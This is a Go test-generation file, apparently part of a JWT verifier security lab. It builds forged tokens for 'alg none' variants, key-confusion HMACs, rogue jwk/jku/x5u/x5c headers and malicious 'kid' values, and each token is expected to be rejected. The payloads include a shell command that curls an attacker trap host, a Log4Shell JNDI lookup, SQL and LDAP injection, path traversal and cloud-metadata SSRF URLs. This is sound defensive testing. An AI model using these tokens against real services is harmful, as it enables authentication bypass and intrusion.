package attacks

import (
	"crypto"
	"crypto/ed25519"
	"crypto/hmac"
	"encoding/base64"
	"encoding/pem"
	"strings"
)

// algorithms plays with "alg": none in every spelling, names that nobody allowed, values that are no name.
func (l *lab) algorithms() []attack {
	var cases []attack
	none := func(name, from, alg, signature string) {
		header := m{"alg": alg, "typ": "at+jwt"}
		cases = append(cases, attack{
			name: name, from: from, want: wants("algorithm.none"),
			token: encode(text(header)) + "." + encode(text(l.body(nil))) + "." + signature,
		})
	}
	none("none", "RFC 8725 2.1; CVE-2015-9235", "none", "")
	for _, alg := range []string{"None", "NONE", "nOnE", "nonE", "NoNe"} {
		none("none spelt "+alg, "CVE-2020-15957; RFC 8725 3.2", alg, "")
	}
	none("none with trailing space", "RFC 8725 3.2", "none ", "")
	none("none with leading space", "RFC 8725 3.2", " none", "")
	none("none with tab", "RFC 8725 3.2", "none\t", "")
	none("none with a signature", "CVE-2022-23540", "none", encode(l.es256.sign("ES256", "x")))
	none("None with zero signature", "RFC 8725 3.2", "None", encode(make([]byte, 64)))
	_, payload, signature := cut(l.token(nil, nil))
	none("none over a signed payload", "RFC 8725 2.1", "none", signature)
	cases = append(cases, attack{
		name: "none with the kid of a key", from: "RFC 7518 3.6", want: wants("algorithm.none"),
		token: encode(text(m{"alg": "none", "kid": l.es256.id, "typ": "at+jwt"})) + "." + payload + ".",
	})

	named := func(alg string, from string) {
		cases = append(cases, attack{
			name: "alg " + alg, from: from, token: l.token(m{"alg": alg}, nil), want: wants("algorithm.not_allowed"),
		})
	}
	for _, alg := range []string{"es256", "Es256", "ES256 ", " ES256", "ES256\x00", "ES256\n", "E\u200bS256", "ＥＳ256"} {
		named(alg, "RFC 7515 4.1.1: case-sensitive; RFC 8725 3.1")
	}
	for _, alg := range []string{"none\x00", "ｎｏｎｅ", "n\u03bfne", "null", "undefined", "none,ES256"} {
		named(alg, "RFC 8725 3.2")
	}
	for _, alg := range []string{"ES256K", "ES257", "ESP256", "Ed448", "RS1", "RS0", "SHA256", "ML-DSA-44"} {
		named(alg, "RFC 8725 3.2: not in any allow-list")
	}
	for _, alg := range []string{"RSA-OAEP", "RSA-OAEP-256", "dir", "A128KW", "PBES2-HS256+A128KW", "ECDH-ES"} {
		named(alg, "RFC 7518 4.1: a key management algorithm in a JWS")
	}
	for name, alg := range map[string]any{
		"absent": absent, "empty": "", "null": nil, "number": 256, "boolean": false, "array": []string{"ES256"}, "object": m{"name": "ES256"},
	} {
		cases = append(cases, attack{
			name: "alg is " + name, from: "RFC 7515 4.1.1", token: l.token(m{"alg": alg}, nil), want: wants("signature.malformed"),
		})
	}
	return cases
}

// confusions use one key in the role of another (RFC 8725 section 2.1).
func (l *lab) confusions() []attack {
	var cases []attack
	mac := func(name, from, alg string, k key, secret []byte) {
		input := encode(text(m{"alg": alg, "kid": k.id, "typ": "at+jwt"})) + "." + encode(text(l.body(nil)))
		hash := map[string]crypto.Hash{"HS256": crypto.SHA256, "HS384": crypto.SHA384, "HS512": crypto.SHA512}[alg]
		code := hmac.New(hash.New, secret)
		code.Write([]byte(input))
		cases = append(cases, attack{name: name, from: from, token: input + "." + encode(code.Sum(nil)), want: wants("algorithm.not_allowed")})
	}
	block := func(k key) []byte { return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: k.der()}) }
	mac("HMAC with the RSA key in PEM", "CVE-2016-5431; CVE-2016-10555", "HS256", l.rs256, block(l.rs256))
	mac("HMAC with the RSA key in PEM without newline", "CVE-2017-11424", "HS256", l.rs256, block(l.rs256)[:len(block(l.rs256))-1])
	mac("HMAC with the RSA key in DER", "CVE-2016-5431", "HS256", l.rs256, l.rs256.der())
	mac("HMAC with the EC key in PEM", "CVE-2022-29217", "HS256", l.es256, block(l.es256))
	mac("HMAC with the EC key in DER", "CVE-2024-54150", "HS384", l.es256, l.es256.der())
	mac("HMAC with the JWK", "CVE-2023-48238", "HS512", l.es256, mustJSON(l.es256.jwk()))
	mac("HMAC with the Ed25519 key", "CVE-2022-29217", "HS256", l.ed25519, l.ed25519.signer.Public().(ed25519.PublicKey))
	mac("HMAC with the kid", "RFC 8725 3.5", "HS256", l.es256, []byte(l.es256.id))
	mac("HMAC with an empty secret", "CVE-2019-20933", "HS256", l.es256, nil)
	mac("HMAC with secret", "RFC 8725 3.5: a guessable secret", "HS256", l.es256, []byte("secret"))

	mismatch := func(name, from string, k key, alg string) {
		input := encode(text(header(k, m{"alg": alg}))) + "." + encode(text(l.body(nil)))
		cases = append(cases, attack{name: name, from: from, token: input + "." + encode(k.sign(alg, input)), want: wants("algorithm.key_mismatch")})
	}
	mismatch("RS256 key under PS256", "RFC 8725 3.1: one algorithm per key", l.rs256, "PS256")
	mismatch("PS256 key under RS256", "RFC 8725 3.1", l.ps256, "RS256")
	mismatch("RS256 key under RS512", "RFC 8725 3.1", l.rs256, "RS512")
	mismatch("P-256 key under ES384", "RFC 7518 3.4: one curve per algorithm", l.es256, "ES384")
	mismatch("P-384 key under ES256", "RFC 7518 3.4", l.es384, "ES256")
	mismatch("P-521 key under ES256", "RFC 7518 3.4", l.es512, "ES256")
	mismatch("EC key under RS256", "RFC 8725 2.1", l.es256, "RS256")
	mismatch("RSA key under ES256", "RFC 8725 2.1", l.rsaAny, "ES256")
	mismatch("Ed25519 key under ES256", "RFC 8037 3.1", l.ed25519, "ES256")
	mismatch("EC key under EdDSA", "RFC 8037 3.1", l.es256, "EdDSA")

	input := encode(text(header(l.rsaAny, m{"alg": "RS256"}))) + "." + encode(text(l.body(nil)))
	cases = append(cases,
		attack{
			name: "a PSS signature called RS256", from: "RFC 7518 3.3, 3.5", token: input + "." + encode(l.rsaAny.sign("PS256", input)),
			want: wants("signature.invalid"),
		},
		attack{
			name: "an algorithm that only another issuer may use", from: "RFC 8725 3.1",
			token: l.signed(l.narrowRS, header(l.narrowRS, nil), l.body(m{"iss": issuerC})), want: wants("algorithm.not_allowed"),
		},
		attack{
			name: "an RSA key of 1024 bits", from: "RFC 7518 3.3; RFC 8725 3.5",
			token: l.signed(l.weak, header(l.weak, nil), l.body(m{"iss": issuerW})), want: wants("key.too_weak"),
		})
	return cases
}

// keyReferences bring a key along or say where to fetch one. None is used, and nothing is fetched.
func (l *lab) keyReferences() []attack {
	evil := "http://" + l.trap + "/jwks.json"
	certificate := base64.StdEncoding.EncodeToString(l.attacker.der())
	symmetric := m{"kty": "oct", "k": encode([]byte("secret"))}
	var cases []attack
	for _, c := range []struct {
		name, from string
		over       m
	}{
		{"jwk", "CVE-2018-0114; RFC 7515 4.1.3", m{"jwk": l.attacker.jwk()}},
		{"jwk with the issuer's kid inside", "CVE-2018-0114", m{"jwk": merge(l.attacker.jwk(), m{"kid": l.es256.id})}},
		{"jwk of type oct", "RFC 8725 3.10", m{"jwk": symmetric}},
		{"jwk null", "RFC 7515 4.1.3", m{"jwk": nil}},
		{"jku", "CVE-2024-21643; RFC 8725 3.10", m{"jku": evil}},
		{"jku that names the issuer as user", "RFC 8725 3.10", m{"jku": "http://idp.example@" + l.trap + "/jwks.json"}},
		{"jku with the issuer in its fragment", "RFC 8725 3.10", m{"jku": evil + "#https://idp.example/"}},
		{"jku to a file", "RFC 8725 3.10", m{"jku": "file:///etc/passwd"}},
		{"jku to metadata", "CWE-918", m{"jku": "http://169.254.169.254/latest/meta-data/"}},
		{"jku number", "RFC 7515 4.1.2", m{"jku": 1}},
		{"x5u", "RFC 7515 4.1.5; RFC 8725 3.10", m{"x5u": evil}},
		{"x5u to LDAP", "CVE-2021-44228", m{"x5u": "ldap://" + l.trap + "/a"}},
		{"x5c", "RFC 7515 4.1.6; RFC 8725 3.10", m{"x5c": []string{certificate}}},
		{"x5c empty", "RFC 7515 4.1.6", m{"x5c": []string{}}},
		{"all four", "RFC 8725 3.10", m{"jwk": l.attacker.jwk(), "jku": evil, "x5u": evil, "x5c": []string{certificate}}},
	} {
		// Signed by the attacker and under the issuer's kid; under a kid of the attacker's; without kid; and
		// properly signed by the issuer, who was talked into adding it.
		cases = append(cases,
			attack{
				name: c.name + ", the issuer's kid", from: c.from, want: wants("signature.invalid", "header.key_reference"),
				token: l.signed(l.attacker, header(l.es256, c.over), l.body(nil)),
			},
			attack{
				name: c.name + ", the attacker's kid", from: c.from, want: wants("signature.key_unknown", "header.key_reference"),
				token: l.signed(l.attacker, header(l.attacker, c.over), l.body(nil)),
			},
			attack{
				name: c.name + ", a good signature", from: c.from, want: wants("header.key_reference"), token: l.token(c.over, nil),
			})
	}
	return append(cases,
		attack{
			name: "jwk and HS256", from: "RFC 8725 3.10", want: wants("algorithm.not_allowed", "header.key_reference"),
			token: l.token(m{"alg": "HS256", "jwk": symmetric}, nil),
		},
		attack{
			name: "jwk and none", from: "CVE-2018-0114", want: wants("algorithm.none", "header.key_reference"),
			token: l.token(m{"alg": "none", "jwk": l.attacker.jwk()}, nil),
		},
		attack{
			name: "iss is a server of the attacker's", from: "RFC 8725 3.10; CWE-918", want: wants("signature.issuer_untrusted"),
			token: l.signed(l.attacker, header(l.attacker, nil), l.body(m{"iss": "http://" + l.trap})),
		})
}

// keyIDs put into "kid" whatever a careless server would look up (RFC 8725 section 3.10).
func (l *lab) keyIDs() []attack {
	var cases []attack
	long := strings.Repeat("k", 4000)
	for _, c := range []struct{ name, kid, from string }{
		{"a path", "../../../../../../dev/null", "CWE-22; RFC 8725 3.10"},
		{"an absolute path", "/proc/self/environ", "CWE-22"},
		{"a Windows path", `..\..\windows\win.ini`, "CWE-22"},
		{"a path with NUL", "a-es256\x00.pem", "CWE-158"},
		{"SQL", "x' UNION SELECT 'secret' -- ", "CWE-89; RFC 8725 3.10"},
		{"a shell command", "$(curl http://" + l.trap + ")", "CWE-78; RFC 8725 3.10"},
		{"backticks", "`id`|id;id", "CWE-78"},
		{"a look-up", "${jndi:ldap://" + l.trap + "/a}", "CVE-2021-44228"},
		{"a template", "{{7*7}}<%= 7*7 %>", "CWE-1336"},
		{"a URL", "http://" + l.trap + "/key", "CWE-918"},
		{"LDAP", "*)(uid=*))(|(uid=*", "CWE-90"},
		{"header injection", "a\r\nSet-Cookie: a=b", "CWE-113"},
		{"markup", "<script>alert(1)</script>", "CWE-79"},
		{"another case", "A-ES256", "RFC 7515 4.1.4: case-sensitive"},
		{"a trailing space", "a-es256 ", "RFC 7515 4.1.4"},
		{"a prefix", "a-es25", "RFC 7515 4.1.4"},
		{"a Unicode twin", "\u0430-es256", "RFC 8725bis; UTS 39"},
		{"empty", "", "RFC 7515 4.1.4"},
		{"zero", "0", "RFC 7515 4.1.4"},
		{"a prototype", "__proto__", "CWE-1321"},
		{"another issuer's kid", "b-es256", "RFC 8725 3.8"},
		{"4000 bytes", long, "CWE-400"},
	} {
		cases = append(cases, attack{
			name: c.name, from: c.from, token: l.token(m{"kid": c.kid}, nil), want: wants("signature.key_unknown"),
		})
	}
	for name, kid := range map[string]any{
		"a number": 1, "null": nil, "an array": []string{l.es256.id}, "an object": m{"$ne": ""}, "a boolean": true,
		"12 kB": long + long + long,
	} {
		cases = append(cases, attack{
			name: name, from: "RFC 7515 4.1.4: a string", token: l.token(m{"kid": kid}, nil), want: wants("signature.malformed"),
		})
	}
	return append(cases,
		attack{name: "a megabyte", from: "CWE-400", token: l.token(m{"kid": strings.Repeat("k", 700_000)}, nil), want: wants("signature.malformed")},
		attack{
			name: "of another key of the issuer", from: "RFC 7515 4.1.4", token: l.token(m{"kid": l.es256b.id}, nil),
			want: wants("signature.invalid"),
		},
		attack{
			name: "missing where several keys fit", from: "RFC 8725 3.8", want: wants("signature.key_unknown"),
			token: l.token(m{"kid": absent}, nil),
		},
		attack{
			name: "missing and signed by nobody", from: "RFC 8725 3.8", want: wants("signature.invalid"),
			token: l.signed(l.attacker, header(l.attacker, m{"kid": absent}), l.body(m{"iss": issuerB})),
		})
}
